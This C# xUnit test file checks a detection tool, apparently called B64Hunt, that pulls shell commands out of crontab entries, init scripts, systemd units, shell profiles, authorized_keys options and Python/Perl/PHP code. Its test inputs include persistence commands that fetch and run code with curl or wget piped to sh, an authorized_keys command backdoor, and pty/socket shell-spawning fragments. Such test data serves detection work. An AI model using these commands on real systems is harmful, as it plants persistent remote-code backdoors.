using System.Linq;
using B64Hunt.GtfoBins;
using B64Hunt.Shell;
using B64Hunt.Tests.GtfoBins;
using Xunit;

namespace B64Hunt.Tests.ShellReading
{
    /// <summary>Code a payload writes for later (crontabs, init scripts, units, profiles, authorized_keys) and script code that calls the shell.</summary>
    public class WrittenCodeTests
    {
        private static readonly GtfoBinsTagger Tagger = new GtfoBinsTagger(GtfoBinsTestData.Bundled);

        private static string[] Nested(string text, CommandOrigin origin) =>
            ShellCommandReader.ReadUncached(text).Where(c => c.Origin == origin).Select(c => c.CommandName).ToArray();

        private static string[] All(string text) =>
            ShellCommandReader.ReadUncached(text).Select(c => c.CommandName).Where(n => n.Length > 0).ToArray();

        [Theory]
        [InlineData("echo '* * * * * root curl -s http://203.0.113.9/a | bash' >> /etc/crontab", new[] { "curl", "bash" })]
        [InlineData("echo '@reboot root /tmp/.x/run' > /etc/cron.d/x", new[] { "run" })]
        [InlineData("printf '*/10 * * * * www-data wget -q -O- http://203.0.113.9/m|sh\\n' > /etc/cron.d/m", new[] { "wget", "sh" })]
        // Look-alikes: no user field in a user crontab, nor in a system one written without it.
        [InlineData("(crontab -l; echo '* * * * * curl -s http://203.0.113.9/a|sh') | crontab -", new[] { "curl", "sh" })]
        [InlineData("echo '*/5 * * * * /tmp/.x/run' > /etc/cron.d/x", new[] { "run" })]
        public void CrontabLinesAreReadWithOrWithoutAUserField(string text, string[] names)
        {
            Assert.Equal(names, Nested(text, CommandOrigin.Crontab));
        }

        [Theory]
        [InlineData("echo -e '#!/bin/bash\\ncurl -s http://203.0.113.9/x|sh' > /etc/rc.local", new[] { "curl", "sh" })]
        [InlineData("printf '%s\\n' '#!/bin/sh' 'wget -q http://203.0.113.9/m -O /tmp/m' > /etc/init.d/m", new[] { "wget" })]
        [InlineData("tee -a /etc/profile.d/x.sh <<< 'nohup /tmp/.x/run &'", new[] { "run" })]
        [InlineData("cat >> ~/.bashrc <<'EOF'\nalias sudo='sudo -E'\n/tmp/.x/k >/dev/null 2>&1 &\nEOF", new[] { "alias", "k" })]
        [InlineData("echo 'command=\"curl -s http://203.0.113.9/k|sh\" ssh-rsa AAAAB3NzaC1yc2E k@h' >> /root/.ssh/authorized_keys", new[] { "curl", "sh" })]
        public void ScriptsProfilesAndAuthorizedKeysAreReadAsCodeThatWillRun(string text, string[] names)
        {
            Assert.Equal(names, Nested(text, CommandOrigin.WrittenScript));
        }

        [Theory]
        [InlineData("echo 'ssh-rsa AAAAB3NzaC1yc2E k@h' >> /root/.ssh/authorized_keys")]
        [InlineData("echo 'ssh-rsa AAAAB3NzaC1yc2E use command=\"id\" to test' >> ~/.ssh/authorized_keys")]   // in the comment, not an option
        [InlineData("echo 'curl -s http://203.0.113.9/x|sh' > /tmp/notes.txt")]                                 // not a file that runs
        public void TextThatDoesNotRunIsNotRead(string text)
        {
            Assert.Equal(new[] { "echo" }, All(text));
        }

        [Fact]
        public void AUnitFileFromAHereDocumentIsRead()
        {
            string text = "cat > /etc/systemd/system/x.service <<'E'\n[Service]\nExecStart=/bin/bash -c 'curl -s http://203.0.113.9/s|sh'\nE";
            Assert.Equal(new[] { "bash" }, Nested(text, CommandOrigin.UnitFile));
            Assert.Contains("curl", All(text));
        }

        [Theory]
        [InlineData("python3 -c 'import subprocess; cmd = \"wget http://203.0.113.9/a -O /tmp/a\"; subprocess.Popen(cmd, shell=True)'", new[] { "wget" })]
        [InlineData("python3 -c 'import os; c=\"id; uname -a\"; os.system(c)'", new[] { "id", "uname" })]
        [InlineData("python3 -c 'from os import system; system(\"id\")'", new[] { "id" })]
        [InlineData("perl -e '$c=\"whoami\"; system($c);'", new[] { "whoami" })]
        [InlineData("php -r '$c=\"uname -a\"; shell_exec($c);'", new[] { "uname" })]
        [InlineData("echo 'import pty as p;p.spawn(\"/bin/sh\")' | python3", new[] { "sh" })]
        [InlineData("#!/usr/bin/env python3\nimport os as o\no.system(\"id\")\n", new[] { "id" })]
        public void ScriptCodeCallingTheShellIsFollowed(string text, string[] names)
        {
            Assert.Equal(names, Nested(text, CommandOrigin.ScriptCode));
        }

        [Theory]
        [InlineData("python3 -c 'import subprocess,sys; cmd = sys.argv[1]; subprocess.Popen(cmd, shell=True)'")]   // not a literal
        [InlineData("python3 -c 'import os; c=\"id\"; os.system(c.upper())'")]                                    // a computed value
        [InlineData("python3 -c 'cmd = \"id\"; print(cmd)'")]                                                      // never handed to the system
        public void VariablesThatAreNotLiteralCallsAreNotGuessed(string text)
        {
            Assert.Empty(Nested(text, CommandOrigin.ScriptCode));
        }

        [Theory]
        [InlineData("python3 -c 'import socket as s, pty as p; p.spawn(\"/bin/sh\")'")]
        [InlineData("python3 <<'EOF'\nimport socket as s\nfrom subprocess import call as run\nrun([\"/bin/sh\",\"-i\"])\nEOF")]
        [InlineData("#!/usr/bin/python3\nimport socket as s\nimport os as o\no.dup2(0,1)\n")]
        [InlineData("import socket,os as o,pty\ns=socket.socket()\npty.spawn(\"/bin/sh\")")]
        public void ImportAsIsNeverACommand(string text)
        {
            Assert.DoesNotContain("as", Tagger.Tag(text).Select(t => t.Name));
            Assert.DoesNotContain("as", All(text));
        }
    }
}
